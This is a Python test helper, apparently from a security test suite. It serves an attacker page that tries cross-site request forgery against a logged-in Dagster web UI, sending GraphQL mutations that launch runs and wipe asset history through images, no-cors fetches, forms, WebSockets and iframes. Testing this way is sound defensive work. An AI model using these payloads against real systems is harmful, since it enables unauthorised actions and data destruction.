"""A page of another site that tries everything a browser allows on a web UI into which its victim is logged in."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

NAMES = ("evil.example", "rebound.example")  # both resolve to this machine
RESOLVER = "--host-resolver-rules=" + ", ".join(f"MAP {name} 127.0.0.1" for name in NAMES)

# One mutation launches a run with a tag that names the way it came; the other deletes the history of an asset.
SCRIPT = """
const launch = way => `mutation { launchPipelineExecution(executionParams: {mode: "default", runConfigData: "{}",
  executionMetadata: {tags: [{key: "attack", value: "${way}"}, {key: "dagster/partition", value: "2025-01-31"}]},
  selector: {repositoryLocationName: "kpi_assets", repositoryName: "__repository__", pipelineName: "instacart",
             assetSelection: [{path: ["instacart", "s3", "aisles"]}]}}) { __typename } }`;
const wipe = `mutation { wipeAssets(assetPartitionRanges: [{assetKey: {path: ["attacked"]}}]) { __typename } }`;
const at = query => TARGET + '/graphql?query=' + encodeURIComponent(query);
const later = milliseconds => new Promise(done => setTimeout(done, milliseconds));
const told = async (name, sent) => {
  try { const answer = await sent; RESULT[name] = answer.type + ' ' + answer.status; }
  catch (error) { RESULT[name] = 'refused'; }
};
const RESULT = {};
async function attack() {
  const image = new Image();
  image.src = at(launch(SITE + ' image'));
  await new Promise(done => image.onload = image.onerror = done);
  for (const query of [launch(SITE + ' text'), wipe])
    await told('text', fetch(at(query), {method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: {'Content-Type': 'text/plain'}, body: '{}'}));
  const body = way => JSON.stringify({query: launch(SITE + way)});
  await told('blob', fetch(TARGET + '/graphql', {method: 'POST', mode: 'no-cors', credentials: 'include',
    body: new Blob([body(' blob')], {type: 'application/json'})}));
  await told('both', fetch(TARGET + '/graphql', {method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: {'Content-Type': 'text/plain; application/json'}, body: body(' both')}));
  await told('json', fetch(TARGET + '/graphql', {method: 'POST', credentials: 'include',
    headers: {'Content-Type': 'application/json'}, body: body(' json')}));
  await told('report', fetch(TARGET + '/report_asset_materialization/reported/' + SITE, {method: 'POST',
    mode: 'no-cors', credentials: 'include'}));
  RESULT.socket = await new Promise(done => {
    const socket = new WebSocket(TARGET.replace('http', 'ws') + '/graphql', 'graphql-ws');
    socket.onopen = () => socket.send(JSON.stringify({type: 'connection_init'}));
    socket.onmessage = message => done(message.data);
    socket.onerror = () => done('refused');
    setTimeout(() => done('silent'), 5000);
  });
  const inner = document.createElement('iframe');
  inner.name = 'answer'; document.body.append(inner);
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', enctype: 'text/plain', target: 'answer', action: at(launch(SITE + ' form'))});
  document.body.append(form); form.submit(); await later(1500);
  const frame = document.createElement('iframe');
  frame.id = 'embedded'; frame.src = TARGET + '/runs'; frame.width = 1200; frame.height = 800;
  document.body.append(frame);
  await Promise.race([new Promise(done => frame.onload = done), later(5000)]); await later(2500);
  window.DONE = RESULT;
}
"""


@contextmanager
def attacking() -> Iterator[int]:
    """Serve the site on its own port; its page is /?target=, and /link/… is a page with a link, as in a chat."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            parts = urlsplit(self.path)
            if parts.path == "/link":
                text = f"<a href='{parts.query}'>Look at this</a>"
            else:
                words = f"const TARGET = {json.dumps(parts.query)}, SITE = location.hostname;"
                text = f"<body><script>{words}{SCRIPT} attack();</script>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html>" + text.encode())

        def log_message(self, *words: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
        yield server.server_port
        server.shutdown()
